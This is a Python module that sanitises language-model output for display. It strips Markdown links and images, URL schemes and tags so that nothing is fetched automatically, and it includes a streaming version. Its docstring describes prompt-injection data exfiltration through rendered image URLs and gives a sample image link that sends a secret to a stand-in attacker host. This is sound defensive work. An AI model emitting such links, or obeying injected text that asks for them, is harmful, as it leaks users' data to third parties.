r"""What a model writes, made harmless to show: plain text without links, markup or control codes.

A passage can bring a model to write a picture's address with the reader's data in it; whatever
shows Markdown would fetch it unasked (Greshake et al. 2023, "Not what you've signed up for",
https://arxiv.org/abs/2302.12173). So links and pictures become their words with the bare address
behind, which nothing follows by itself: ``![logo](https://evil.example/x?d=secret)`` becomes
``logo (evil.example/x?d=secret)``. Tags lose their angle brackets and control characters go.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator

from nearfield.rag.fence import defused

__all__ = ["InertStream", "inert"]

_LINK = re.compile(r"!?\[([^\[\]]*)\]\(\s*<?([^()\s<>]*)>?[^()]*\)")
_REFERENCE = re.compile(
    r"!?\[([^\[\]]+)\]\[[^\[\]\d][^\[\]]*\]|^\s*\[[^\[\]\d][^\[\]]*\]:\s*", re.M
)
_SCHEME = re.compile(
    r"\b(?:[a-z][a-z0-9+.-]{1,20}:/{2,}|(?:javascript|data|vbscript|mailto|tel):(?=\S))", re.I
)
_WWW = re.compile(r"\bwww\.(?=\w)", re.I)
_PICTURE = re.compile(r"!+\[")
_JOINT = re.compile(r"\]\(|\]\[(?!\d+\])|\]:")
_LONGEST_OPEN = 600
"""Characters that a stream holds back for the end of a link; a longer one is no link."""


def inert(text: str) -> str:
    """Make a text plain.

    Examples
    --------
    >>> inert("See [the page](https://a.example/p) and <b>this</b> [1].")
    'See the page (a.example/p) and ‹b›this‹/b› [1].'
    """
    plain = defused(text)
    previous = ""
    while previous != plain:  # what was inside of a link may be one
        previous = plain
        plain = _LINK.sub(_shown, plain)
    plain = _REFERENCE.sub(lambda found: found[1] or "", plain)
    while _SCHEME.search(plain):  # taking one away may make another
        plain = _SCHEME.sub("", plain)
    plain = _WWW.sub("", plain)
    # Whatever still looks like a link is taken apart; a mark such as [1][2] is none.
    plain = _JOINT.sub(lambda found: f"{found[0][:-1]} {found[0][-1]}", _PICTURE.sub("[", plain))
    return re.sub(r"<(?=[A-Za-z/!?])", "‹", re.sub(r"(?:(?<=[\w\"'/])|(?<=--))>", "›", plain))


def _shown(found: re.Match[str]) -> str:
    words, address = found[1].strip(), found[2].strip()
    if not address:
        return words
    return f"{words} ({address})" if words else address


class InertStream:
    """The same for a text that comes in pieces: no piece shows what the whole would not.

    Examples
    --------
    >>> "".join(InertStream(["See [a](htt", "ps://b.ex", "ample) ", "now."]))
    'See a (b.example) now.'
    """

    def __init__(self, pieces: Iterable[str]) -> None:
        self._pieces = pieces

    def __iter__(self) -> Iterator[str]:
        held = ""
        for piece in self._pieces:
            held += piece
            ready = _ready(held)
            if ready:
                yield inert(held[:ready])
                held = held[ready:]
        if held:
            yield inert(held)


def _ready(text: str) -> int:
    """How much may be shown: up to the last space that stands in no unfinished link or tag."""
    end = max(text.rfind(" "), text.rfind("\n")) + 1
    for opening, closing in (("[", ")"), ("<", ">"), ("![", ")")):
        at = text.rfind(opening, 0, end)
        if at < 0 or end - at > _LONGEST_OPEN:
            continue
        unfinished = closing not in text[at:end]
        if opening != "<" and _MARK.match(text, at, end):
            unfinished = False  # a citation, such as [1]
        if unfinished:  # from the beginning of its word: what stands before may belong to it
            end = max(text.rfind(" ", 0, at), text.rfind("\n", 0, at)) + 1
    return end


_MARK = re.compile(r"\[\d+\](?![(\[:])")
